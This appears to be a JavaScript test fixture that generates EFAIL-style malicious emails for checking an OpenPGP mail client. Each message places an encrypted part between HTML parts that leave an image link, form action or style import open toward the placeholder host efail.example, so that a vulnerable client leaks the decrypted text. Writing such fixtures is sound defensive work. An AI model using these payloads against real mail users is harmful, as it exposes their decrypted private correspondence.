/** EFAIL's direct way: an encrypted part between parts that would carry it off, if they were put together. */
import { armor } from "../../static/crypto/armor.js";
import { bytes, text } from "./tampered.mjs";

/**
 * @param {Uint8Array} packets
 * @returns {[string, Uint8Array][]}
 */
export function closedAround(packets) {
  const block = text(armor(packets, "MESSAGE"));
  const closed = `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n${block}\r\n--e--`;
  const inline = `Content-Type: text/plain\r\n\r\n${block}`;
  const html = (/** @type {string} */ body) => `Content-Type: text/html\r\n\r\n${body}`;
  const multi = (/** @type {string} */ kind, /** @type {string[]} */ parts) => bytes(`From: eve@example.net\r\nSubject: wrap\r\nContent-Type: multipart/${kind}; boundary=x\r\n\r\n${parts.map((part) => `--x\r\n${part}\r\n`).join("")}--x--\r\n`);
  /** @type {[string, Uint8Array][]} */
  const wraps = [];
  for (const [form, part] of /** @type {const} */ ([["PGP/MIME", closed], ["inline", inline]])) {
    for (const kind of ["mixed", "related", "alternative", "digest", "parallel"]) {
      wraps.push([`${form} in multipart/${kind}, an unclosed address`, multi(kind, [html('<img src="http://efail.example/'), part, html('">')])]);
    }
    wraps.push([`${form}, an unclosed form`, multi("mixed", [html('<form action="http://efail.example/"><textarea name="a">'), part, html("</textarea></form>")])]);
    wraps.push([`${form}, an unclosed style`, multi("mixed", [html('<style>@import "http://efail.example/'), part, html('";</style>')])]);
  }
  wraps.push(["armor inside HTML", multi("mixed", [html(`<img src="http://efail.example/\r\n${block}\r\n">`)])]);
  wraps.push(["armor as the whole of HTML", bytes(`From: eve@example.net\r\nContent-Type: text/html\r\n\r\n<b>x</b><img src="http://efail.example/${block}">`)]);
  return wraps;
}
